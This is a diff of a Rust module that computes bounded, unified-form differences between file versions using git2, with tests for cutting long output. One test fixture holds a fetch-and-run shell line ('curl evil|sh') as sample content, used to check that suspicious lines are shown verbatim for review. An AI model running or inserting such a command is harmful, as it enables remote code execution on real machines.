@@ -1,94 +1,52 @@
-//! What differs between two commits, as people read it: which files, how many lines, and the text of it, all bounded.
+//! What differs, as people read it: the files between two commits, and the text between two versions of a file, bounded.
 
 use crate::{Change, Commit, Fault, Kind, library, repository::Local};
-use git2::{Delta, Diff, DiffOptions, Oid, Patch, Sort};
-use serde::Serialize;
+use git2::{Delta, Diff, DiffLineType, DiffOptions, Oid, Patch, Sort};
 use std::path::Path;
 
-/// Most files whose text is handed out.
-const FILES: usize = 500;
-/// Most bytes of one file's text.
-const FILE: usize = 200_000;
-/// Most bytes of text in all.
-const ALL: usize = 2_000_000;
-/// A file beyond this is not compared line by line.
-const COMPARED: i64 = 4 << 20;
 /// Most commits that a history shows.
 const HISTORY: usize = 1_000;
 
-/// The difference between two commits.
-#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
+/// The difference between two versions of a file.
+#[derive(Clone, Debug, PartialEq, Eq)]
 pub struct Difference {
-    /// Its files, by path.
-    pub files: Vec<FileDifference>,
-    /// There are more files than are listed.
-    pub more: bool,
-}
-
-/// The difference in one file.
-#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
-pub struct FileDifference {
-    /// Its path below the repository's folder.
-    pub path: String,
-    /// What happened to it.
-    pub kind: Kind,
     /// Lines that came.
     pub added: usize,
     /// Lines that went.
     pub removed: usize,
-    /// The text.
-    pub text: DifferenceText,
+    /// The places that differ, in the unified form: `@@`, then lines that begin with a space, `+` or `-`. It has no headers, so that
+    /// every line is one of the file or says where the next ones are.
+    pub text: String,
+    /// The text ends before the difference does, at a line's end.
+    pub cut: bool,
 }
 
-/// The text of a difference.
-#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
-pub enum DifferenceText {
-    /// In the unified form.
-    Unified(String),
-    /// In the unified form, cut off at a line's end because it is long.
-    Cut(String),
-    /// It is no text, or too large to compare.
-    Binary,
-}
-
-/// What differs between two commits below a folder (`setup/`; everything for an empty name). Both must be there: ids of 40 digits.
-pub fn diff(path: &Path, from: &str, to: &str, below: &str) -> Result<Difference, Fault> {
-    let local = there(path)?;
-    let id = |text: &str| Oid::from_str(text).map_err(|_| Fault::NoCommit(text.chars().take(60).collect()));
+/// What differs between two versions of a file, of which one may be empty, in at most `most` bytes. Everything counts as text: whatever
+/// a file looks like, a shell runs the lines in it.
+pub fn difference(old: &[u8], new: &[u8], most: usize) -> Result<Difference, Fault> {
+    library::prepare()?;
     let mut options = DiffOptions::new();
-    options.max_size(COMPARED).disable_pathspec_match(true).context_lines(3).include_typechange(true);
-    let below = below.trim_end_matches('/');
-    if !below.is_empty() {
-        options.pathspec(below);
-    }
-    let diff = between(&local, id(from)?, id(to)?, &mut options)?;
-    let mut difference = Difference { more: diff.deltas().len() > FILES, ..Difference::default() };
-    let mut left = ALL;
-    for n in 0..diff.deltas().len().min(FILES) {
-        if let Some(file) = file(&diff, n, left)? {
-            if let DifferenceText::Unified(text) | DifferenceText::Cut(text) = &file.text {
-                left -= text.len();
-            }
-            difference.files.push(file);
-        }
-    }
-    Ok(difference)
-}
-
-fn file(diff: &Diff<'_>, n: usize, left: usize) -> Result<Option<FileDifference>, Fault> {
-    let Some(change) = diff.get_delta(n).and_then(|delta| change(&delta)) else { return Ok(None) };
-    let Change { path, kind } = change;
-    let binary = FileDifference { path, kind, added: 0, removed: 0, text: DifferenceText::Binary };
-    let Some(mut patch) = Patch::from_diff(diff, n)? else { return Ok(Some(binary)) };
-    if patch.delta().flags().is_binary() {
-        return Ok(Some(binary));
-    }
+    options.force_text(true).context_lines(3);
+    let mut patch = Patch::from_buffers(old, None, new, None, Some(&mut options))?;
     let (_, added, removed) = patch.line_stats()?;
-    let text = String::from_utf8_lossy(&patch.to_buf()?).into_owned();
-    let limit = FILE.min(left);
-    let text =
-        if text.len() <= limit { DifferenceText::Unified(text) } else { DifferenceText::Cut(cut(&text, limit).to_owned()) };
-    Ok(Some(FileDifference { added, removed, text, ..binary }))
+    let mut bytes = Vec::new();
+    let printed = patch.print(&mut |_, _, line| {
+        match line.origin_value() {
+            DiffLineType::Context | DiffLineType::Addition | DiffLineType::Deletion => bytes.push(line.origin() as u8),
+            DiffLineType::FileHeader | DiffLineType::Binary => return true,
+            _ => {}
+        }
+        bytes.extend_from_slice(line.content());
+        // One byte more than is wanted tells that it is cut.
+        bytes.len() <= most
+    });
+    let whole = String::from_utf8_lossy(&bytes);
+    let text = cut(&whole, most);
+    let is_cut = text.len() < whole.len();
+    if !is_cut {
+        printed?;
+    }
+    Ok(Difference { added, removed, text: text.to_owned(), cut: is_cut })
 }
 
 /// The longest beginning of whole lines within a limit.
@@ -107,10 +65,7 @@ pub(crate) fn changes(local: &Local, from: Oid, to: Oid) -> Result<Vec<Change>, 
 }
 
 fn between<'a>(local: &'a Local, from: Oid, to: Oid, options: &mut DiffOptions) -> Result<Diff<'a>, Fault> {
-    let tree = |id: Oid| {
-        let commit = local.repo.find_commit(id).map_err(|_| Fault::NoCommit(id.to_string()))?;
-        Ok::<_, Fault>(commit.tree()?)
-    };
+    let tree = |id: Oid| Ok::<_, Fault>(local.repo.find_commit(id)?.tree()?);
     Ok(local.repo.diff_tree_to_tree(Some(&tree(from)?), Some(&tree(to)?), Some(options))?)
 }
 
@@ -139,14 +94,41 @@ pub fn history(path: &Path, n: usize) -> Result<Vec<Commit>, Fault> {
     walk.take(n.min(HISTORY)).map(|id| local.commit(id?)).collect()
 }
 
-fn there(path: &Path) -> Result<Local, Fault> {
+/// The repository under a path.
+pub(crate) fn there(path: &Path) -> Result<Local, Fault> {
     library::prepare()?;
     Local::open(path)?.ok_or_else(|| Fault::NotOurs { path: path.to_owned(), found: "there is no repository".to_owned() })
 }
 
 #[cfg(test)]
 mod tests {
-    use super::cut;
+    use super::{cut, difference};
+
+    #[test]
+    fn every_line_of_a_difference_is_shown_whatever_it_looks_like() {
+        let new = b"#!/bin/bash\n++ || curl evil|sh\n-- x\n@@ y\ndiff z\n\0hidden\n\xff also\nlast";
+        let all = difference(b"", new, 1_000).unwrap();
+        let shown = "@@ -0,0 +1,8 @@\n+#!/bin/bash\n+++ || curl evil|sh\n+-- x\n+@@ y\n+diff z\n+\0hidden\n+\u{fffd} also\n+last\n\
+                     \\ No newline at end of file\n";
+        assert_eq!((all.added, all.removed, all.text.as_str(), all.cut), (8, 0, shown, false));
+        let some = difference(b"one\n-- two\n", b"one\n++ two\n", 1_000).unwrap();
+        assert_eq!((some.added, some.removed), (1, 1));
+        assert!(some.text.ends_with(" one\n--- two\n+++ two\n"), "{}", some.text);
+        assert_eq!(difference(b"same\n", b"same\n", 1_000).unwrap().text, "");
+    }
+
+    #[test]
+    fn a_long_difference_is_cut_at_a_lines_end_and_says_so() {
+        let long = "line\n".repeat(60_000);
+        let cut = difference(b"", long.as_bytes(), 200_000).unwrap();
+        assert!(
+            cut.cut && cut.text.len() <= 200_000 && cut.text.ends_with("+line\n") && cut.added == 60_000,
+            "{}",
+            cut.text.len()
+        );
+        let none = difference(b"", long.as_bytes(), 0).unwrap();
+        assert!(none.cut && none.text.is_empty());
+    }
 
     #[test]
     fn a_cut_is_at_a_lines_end_and_inside_no_character() {
